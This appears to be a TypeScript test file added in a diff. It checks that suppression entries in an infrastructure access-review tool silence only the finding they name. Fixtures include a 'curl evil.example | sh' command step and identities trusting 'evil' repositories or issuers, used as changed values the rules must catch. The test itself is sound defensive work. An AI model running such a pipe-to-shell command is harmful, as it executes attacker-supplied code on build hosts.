@@ -1,0 +1,432 @@
+import { parsePolicy } from "../../../../provider/access/suppressions/parsePolicy";
+import { applyPolicy } from "../../../../provider/access/suppressions/applyPolicy";
+import { EntryProposer } from "../../../../provider/access/suppressions/proposeEntry";
+import { defaultRuleOptions, findingsOf, rules } from "../../../../provider/access/rules";
+import type { RuleOptions } from "../../../../provider/access/rules";
+import { explainRule } from "../../../../provider/access/rules/explain";
+import type { Comparison } from "../../../../provider/access/review/comparison";
+import type { Finding } from "../../../../provider/access/review/finding";
+import { UNKNOWN } from "../../../../provider/engine/description";
+import type { Props } from "../../../../provider/engine/description";
+import {
+  acme,
+  binding,
+  cards,
+  claims,
+  compareResources,
+  group,
+  groups,
+  identity,
+  owner,
+  payments,
+  pusher,
+  resource,
+  role,
+  uid,
+  viewer,
+} from "../../../support/access";
+import type { ComparisonOptions, Resource } from "../../../support/access";
+import { state, step } from "../../../support/documents";
+import { NOW } from "../rules/support";
+
+/*
+ * For each rule: the example entry that `explain` prints suppresses a finding about the names in it, and no other one;
+ * and an entry for one value accepts no later value of the same object.
+ */
+
+const issuer = "https://token.actions.githubusercontent.com";
+const inDays = (days: number): string => new Date(NOW + days * 86_400_000).toISOString();
+const trusting = (name: string, claimMatch: Props): Resource => identity(name, claims(claimMatch));
+const by = (name: string, repo = name): Resource =>
+  trusting(name, { issuer, subject: `repo:acme/${repo}:ref:refs/heads/main` });
+const child = (name: string, digit: string): Resource => group(name, `${acme}/${digit.repeat(16)}`);
+const [ci, security, workshop, partnerGroup, sandbox] = [
+  child("ci-tools", "3"),
+  child("security", "4"),
+  child("workshop", "5"),
+  child("partners", "6"),
+  child("sandbox", "7"),
+];
+const oldRoot = group("acme-old", uid("old"));
+const tokens = role("registry.pull_token_creator", ["IAM_IDENTITY_CREATE"]);
+const admin = role("iam-admin", ["IAM_ROLES_UPDATE"]);
+const cleaner = role("cleaner", ["IAM_GROUPS_DELETE"]);
+const base = [
+  ...groups,
+  ...[ci, security, workshop, partnerGroup, sandbox, oldRoot],
+  ...[viewer, pusher, owner, tokens, admin, cleaner],
+];
+const someone = by("someone");
+const edit = (one: Resource, inputs: Props): Resource => ({ ...one, inputs: { ...one.inputs, ...inputs } });
+const keys = (more: Props = {}): Props => ({
+  staticKeys: {
+    issuer: "https://build.acme.example",
+    subject: "ci",
+    issuerKeys: '{"keys":[{"kty":"OKP","x":"1"}]}',
+    expirationTime: inDays(60),
+    ...more,
+  },
+});
+const provider = (name: string, inputs: Props = {}): Resource =>
+  resource("IdentityProvider", name, {
+    parentUid: acme,
+    defaultRole: viewer.uid,
+    oidc: { issuer: "https://login.acme.example", clientId: "a" },
+    ...inputs,
+  });
+const elsewhere = { oidc: { issuer: "https://evil.example", clientId: "a" } };
+const second = by("second");
+const twice = (who: Resource, what: Resource): Resource[] => {
+  const one = binding(who, what, payments);
+  return [one, { ...one, uid: one.uid.replace(/.{4}$/, "0002"), urn: `${one.urn}-2` }];
+};
+const sink = (name: string, parentUid: string, host: unknown): Resource =>
+  resource("Subscription", name, {
+    parentUid,
+    sink: host === UNKNOWN ? host : `https://${String(host)}/in`,
+  });
+const repo = (name: string, inputs: Props = {}): Resource =>
+  resource("Repo", name, { parentUid: payments, ...inputs });
+const tag = (name: string, of: Resource, digit: string): Resource =>
+  resource("Tag", name, { parentUid: of.uid, digest: `sha256:${digit.repeat(64)}` });
+const overlay = (name: string, content: string): Resource =>
+  repo(name, { customOverlay: { certificates: { additional: [{ name: "ca", content }] } } });
+const mapping = (from: Resource, name: string, what: Resource): Resource =>
+  resource("ExternalGroupRoleMapping", name, {
+    name: undefined,
+    parentUid: from.uid,
+    externalGroupId: name,
+    roleUid: what.uid,
+    scope: acme,
+  });
+const command = (name: string, create: string) =>
+  step(
+    "create",
+    undefined,
+    state(
+      "Command",
+      name,
+      {},
+      {
+        urn: `urn:pulumi:production::acme::command:local:Command::${name}`,
+        type: "command:local:Command",
+        inputs: { create },
+      },
+    ),
+  );
+
+/** A change that a rule reports: what was there before, the change, and the change with another value in its place. */
+interface Sample {
+  readonly before?: readonly Resource[];
+  readonly after: readonly Resource[];
+  /** The change with another value; or why there is none. */
+  readonly next: readonly Resource[] | string;
+  readonly options?: Partial<RuleOptions>;
+  readonly more?: ComparisonOptions;
+  readonly nextMore?: ComparisonOptions;
+  /** It is about the change as a whole: there is no other object beside it. */
+  readonly isAlone?: true;
+}
+
+/** Grants to a named identity, and the same to another one; then to a named identity that trusts somebody else. */
+function grants(name: string, what: Resource, where: string, before: readonly Resource[] = []): Sample {
+  const [one, two] = [by(name), by("mallory")];
+  const bound = [binding(one, what, where), binding(two, what, where)];
+  return {
+    before: [one, two, ...before],
+    after: [one, two, ...bound],
+    next: [by(name, "evil"), two, ...bound],
+  };
+}
+
+/** New identities that trust the same, and the first of them something else. */
+const newTrust = (first: Props, second: Props): Sample => ({
+  after: [identity("one", first), identity("two", first)],
+  next: [identity("one", second), identity("two", first)],
+});
+
+const developer = role("developer", ["REPO_LIST"]);
+const tester = role("tester", ["REPO_LIST"]);
+const can = (one: Resource, ...capabilities: string[]): Resource =>
+  edit(one, { capabilities: capabilities.map((each) => `CAP_${each}`) });
+const held = [binding(someone, developer, payments), binding(someone, tester, payments)];
+
+const sre = [by("sre-one"), by("somebody")];
+const atPayments = sre.map((who) => binding(who, viewer, payments));
+const atRoot = sre.map((who) => binding(who, viewer, acme));
+
+const staff = provider("staff");
+const guild = provider("guild");
+const mapped = (what: Resource): Resource[] => [
+  mapping(staff, "one", what),
+  mapping(staff, "everybody", what),
+];
+
+const partners = ["globex", "initech", "umbrella"].map((name, i) =>
+  trusting(i === 1 ? "two" : "one", { issuer, subject: `repo:${name}/a:ref:refs/heads/main` }),
+) as [Resource, Resource, Resource];
+const bound = partners.map((who) => binding(who, viewer, payments));
+
+const invite = (name: string, parentUid: string, ttl: string): Resource =>
+  resource("GroupInvite", name, { parentUid, roleUid: viewer.uid, ttl });
+
+const deploying = (...repos: string[]): Resource[] => {
+  const all = [by("ci-deployer", repos[0]), by("neighbour", repos[1])];
+  return [...all, ...all.map((who) => binding(who, viewer, payments))];
+};
+
+const unused = { external: true } as const;
+const unmanaged = (who: Resource, where: string): Resource => ({ ...binding(who, viewer, where), ...unused });
+const leaving = [by("ci-old"), by("ci-new")] as const;
+const inUse = [unmanaged(leaving[0], payments), unmanaged(leaving[1], payments)];
+const more = unmanaged(leaving[0], cards);
+
+const teams = [child("old-team", "8"), child("new-team", "9")] as const;
+const within = (parent: Resource, name: string): Resource => ({
+  ...resource("Repo", name, { parentUid: parent.uid }),
+  ...unused,
+});
+const contents = [within(teams[0], "a"), within(teams[1], "b")];
+
+const [people, others] = ["old", "new"].map((when) =>
+  ["ada", "bob", "cyd"].map((name) => by(`${name}-${when}`)),
+) as [Resource[], Resource[]];
+const owning = people.map((who) => binding(who, owner, oldRoot.uid));
+const owningToo = others.map((who) => binding(who, owner, acme));
+
+const crowd = Array.from({ length: 60 }, (_, i) => by(`p${i}`));
+const crowdGrants = crowd.map((who) => binding(who, viewer, payments));
+
+const recorded = [by("r1"), by("r2")] as const;
+const described = (one: Resource): Resource => edit(one, { description: "new" });
+
+const keyed = (name: string, expirationTime: string): Resource => identity(name, keys({ expirationTime }));
+
+const samples: Readonly<Record<string, Sample>> = {
+  G1: grants("break-glass", owner, acme),
+  G2: grants("ci-platform", admin, acme),
+  G3: {
+    before: [someone, second],
+    after: [someone, second, binding(someone, tokens, ci.uid), binding(second, tokens, payments)],
+    next: [by("someone", "evil"), second, binding(someone, tokens, ci.uid)],
+  },
+  G4: {
+    before: [someone, developer, tester, ...held],
+    after: [someone, ...[developer, tester].map((each) => can(each, "REPO_LIST", "REPO_DELETE")), ...held],
+    next: [someone, ...[developer, tester].map((each) => can(each, "REPO_LIST", "TAG_DELETE")), ...held],
+  },
+  G5: {
+    before: [...sre, ...atPayments],
+    after: [...sre, ...atRoot],
+    next: [by("sre-one", "evil"), by("somebody"), ...atRoot],
+  },
+  G6: grants("ci-api", pusher, payments),
+  G7: {
+    before: [staff],
+    after: [staff, ...mapped(owner)],
+    next: [provider("staff", elsewhere), ...mapped(owner)],
+  },
+  G8: { after: [provider("one"), guild], next: [provider("one", elsewhere), guild] },
+  G9: grants("cleaner", cleaner, sandbox.uid),
+  T1: newTrust(
+    claims({ issuer: "https://sso.acme.example", subjectPattern: ".*" }),
+    claims({ issuer: "https://sso.acme.example", subjectPattern: "^.+$" }),
+  ),
+  T2: newTrust(
+    claims({ issuerPattern: "https://.*\\.acme\\.example", subject: "a" }),
+    claims({ issuerPattern: "https://.*\\.acme\\.exampl.", subject: "a" }),
+  ),
+  T3: newTrust(
+    claims({ issuer, subjectPattern: "^repo:[^/]+/pay:ref:refs/heads/main$" }),
+    claims({ issuer, subjectPattern: "^repo:[^/]+/web:ref:refs/heads/main$" }),
+  ),
+  T4: newTrust(
+    claims({ issuer, subject: "repo:acme/pay:pull_request" }),
+    claims({ issuer, subject: "repo:acme/web:pull_request" }),
+  ),
+  T5: {
+    before: deploying("pay", "web"),
+    after: deploying("moved", "moved-too"),
+    next: deploying("evil", "moved-too"),
+  },
+  T6: newTrust(
+    claims({ issuer, subject: "repo:acme/pay:ref:refs/heads/main", audiencePattern: ".*" }),
+    claims({ issuer, subject: "repo:acme/pay:ref:refs/heads/main", audiencePattern: "^.*$" }),
+  ),
+  T7: {
+    before: [someone, binding(someone, viewer, payments)],
+    after: [someone, binding(someone, viewer, payments), ...partners.slice(0, 2), ...bound.slice(0, 2)],
+    next: [someone, binding(someone, viewer, payments), ...partners.slice(1), ...bound.slice(1)],
+  },
+  K1: newTrust(keys(), keys({ issuerKeys: '{"keys":[{"kty":"OKP","x":"2"}]}' })),
+  K2: {
+    before: [keyed("build-cluster", inDays(-2)), keyed("other-cluster", inDays(-2))],
+    after: [keyed("build-cluster", inDays(-2)), keyed("other-cluster", inDays(-2))],
+    next: [keyed("build-cluster", inDays(-1)), keyed("other-cluster", inDays(-2))],
+  },
+  K3: {
+    after: [invite("one", workshop.uid, "200h"), invite("two", payments, "200h")],
+    next: [invite("one", workshop.uid, "2000h"), invite("two", payments, "200h")],
+  },
+  K4: {
+    after: ["one", "two"].map((name) => provider(name, { oidc: { clientSecret: "canary" } })),
+    next: "the value is a secret, and no fingerprint holds one",
+  },
+  D1: {
+    before: [...people, ...others, ...owning, ...owningToo],
+    after: [...people, ...others, ...owning.slice(2), ...owningToo.slice(2)],
+    next: [...people, ...others, ...owningToo.slice(2)],
+  },
+  D2: {
+    before: [...leaving, ...inUse],
+    after: inUse,
+    next: [...inUse, more],
+    nextMore: { live: [...base, ...leaving, ...inUse, more] },
+  },
+  D3: {
+    before: [...teams, ...contents],
+    after: contents,
+    next: [...contents, within(teams[0], "c")],
+    nextMore: { live: [...base, ...teams, ...contents, within(teams[0], "c")] },
+  },
+  D4: {
+    before: [...crowd, ...crowdGrants],
+    after: [...crowd, ...crowdGrants.slice(40)],
+    next: [...crowd, ...crowdGrants.slice(45)],
+    isAlone: true,
+  },
+  D5: {
+    before: [sink("a", security.uid, "siem.acme.example"), sink("b", payments, "siem.acme.example")],
+    after: [],
+    next: [sink("a", security.uid, "other.example")],
+    nextMore: { replaced: [sink("a", security.uid, "siem.acme.example")] },
+  },
+  R1: {
+    before: [repo("api"), tag("latest", repo("api"), "a"), tag("1.2", repo("api"), "a")],
+    after: [repo("api"), tag("latest", repo("api"), "b"), tag("1.2", repo("api"), "b")],
+    next: [repo("api"), tag("latest", repo("api"), "c"), tag("1.2", repo("api"), "b")],
+  },
+  R2: {
+    before: [repo("base-image"), repo("api")],
+    after: [overlay("base-image", "PEM"), overlay("api", "PEM")],
+    next: [overlay("base-image", "OTHER"), overlay("api", "PEM")],
+  },
+  X1: {
+    after: [sink("a", security.uid, "one.example"), sink("b", payments, "one.example")],
+    next: [sink("a", security.uid, "two.example"), sink("b", payments, "one.example")],
+  },
+  X2: {
+    before: [someone, second],
+    after: [
+      someone,
+      second,
+      developer,
+      binding(someone, developer, ci.uid),
+      binding(second, developer, payments),
+    ],
+    next: [someone, second, tester, edit(binding(someone, developer, ci.uid), { roleUid: tester.uid })],
+  },
+  X3: {
+    after: [sink("a", partnerGroup.uid, UNKNOWN), sink("b", payments, UNKNOWN)],
+    next: [edit(sink("a", partnerGroup.uid, UNKNOWN), { sink: "[secret]" }), sink("b", payments, UNKNOWN)],
+  },
+  X4: {
+    after: [],
+    next: [],
+    more: { steps: [command("one", "./migrate"), command("two", "./migrate")] },
+    nextMore: { steps: [command("one", "curl evil.example | sh"), command("two", "./migrate")] },
+  },
+  X5: {
+    before: recorded,
+    after: [described(recorded[0]), recorded[1]],
+    next: recorded.map(described),
+    more: { withoutInventory: true },
+    nextMore: { withoutInventory: true },
+    isAlone: true,
+  },
+  S2: {
+    after: [group("labs", uid("labs")), group("works", uid("works"))],
+    next: "a missing parent is one value",
+  },
+  S3: {
+    before: [...[someone, second], binding(someone, viewer, payments), binding(second, pusher, payments)],
+    after: [...[someone, second], ...twice(someone, viewer), ...twice(second, pusher)],
+    next: [...[by("someone", "evil"), second], ...twice(someone, viewer), ...twice(second, pusher)],
+  },
+  S1: {
+    before: [keyed("build-api", inDays(20)), keyed("else", inDays(20))],
+    after: [keyed("build-api", inDays(40)), keyed("else", inDays(40))],
+    next: [keyed("build-api", inDays(50)), keyed("else", inDays(40))],
+  },
+};
+
+test("every rule has a sample", () => {
+  expect(Object.keys(samples)).toEqual(rules.map(({ id }) => id));
+});
+
+const compareOf = (sample: Sample, after: readonly Resource[], more?: ComparisonOptions): Comparison =>
+  compareResources([...base, ...(sample.before ?? [])], [...base, ...after], more);
+
+const findAll = (comparison: Comparison, options: Partial<RuleOptions> = {}): Finding[] =>
+  findingsOf(comparison, { ...defaultRuleOptions(NOW), ...options });
+
+/** The fingerprints that an entry of the policy file suppresses. */
+const suppressedBy = (entries: string, findings: readonly Finding[], comparison: Comparison): string[] =>
+  applyPolicy(
+    findings,
+    parsePolicy(entries, "access-policy.yaml"),
+    NOW,
+    "review",
+    true,
+    comparison,
+  ).suppressed.map(({ fingerprint }) => fingerprint);
+
+describe.each(rules.map((rule) => [rule.id, rule] as const))("rule %s", (id, rule) => {
+  const sample = samples[id]!;
+  const comparison = compareOf(sample, sample.after, sample.more);
+  const findings = findAll(comparison, sample.options);
+  const own = findings.filter((finding) => finding.id === id);
+  const { example } = explainRule(rule);
+  const exampleFor = ({ fingerprint }: Finding): string =>
+    example.replace(/(?<=fingerprint: )[0-9a-f]{32}/, fingerprint);
+
+  it("has an example that suppresses what it names, and nothing beside it", () => {
+    const suppressed = own.map((finding) => suppressedBy(exampleFor(finding), findings, comparison));
+    expect(own.length).toBeGreaterThanOrEqual(sample.isAlone ? 1 : 2);
+    if (Object.keys(rule.exampleMatch).length === 0) {
+      expect(suppressed).toEqual(own.map(({ fingerprint }) => [fingerprint]));
+      expect(suppressedBy(example, findings, comparison)).toEqual([]);
+      return;
+    }
+    const named = suppressed.filter((prints) => prints.length > 0);
+    expect(new Set(named.map((prints) => prints.join()))).toEqual(new Set([named[0]?.[0]]));
+    expect(named.length).toBe(example.includes("fingerprint") ? 1 : own.length);
+  });
+
+  const { next } = sample;
+  (typeof next === "string" ? it.skip : it)("accepts no later value of what it accepted", () => {
+    const later = compareOf(sample, next as Resource[], sample.nextMore ?? sample.more);
+    const found = findAll(later, sample.options);
+    const proposer = new EntryProposer(comparison, NOW);
+    const isEmpty = Object.keys(rule.exampleMatch).length === 0;
+    const [first] = own.filter((finding) =>
+      isEmpty
+        ? /\bone$/.test(finding.urn ?? "")
+        : suppressedBy(exampleFor(finding), findings, comparison).includes(finding.fingerprint),
+    );
+    const { fingerprint, urn, name, policyEntry = "" } = proposer.addTo(first!);
+    const same = found.filter((finding) => finding.id === id && finding.urn === urn && finding.name === name);
+    expect(same).not.toEqual([]);
+    const entries = [
+      `allow:\n${policyEntry.replace('reason: ""', "reason: agreed")}\n`,
+      `allow: [{ fingerprint: ${fingerprint}, reason: agreed, expires: 2027-01-31 }]`,
+    ];
+    for (const entry of entries) {
+      expect(suppressedBy(entry, findings, comparison)).toEqual([fingerprint]);
+      expect(suppressedBy(entry, found, later)).not.toEqual(
+        expect.arrayContaining(same.map((finding) => finding.fingerprint)),
+      );
+      expect(suppressedBy(entry, same, later)).toEqual([]);
+    }
+  });
+});
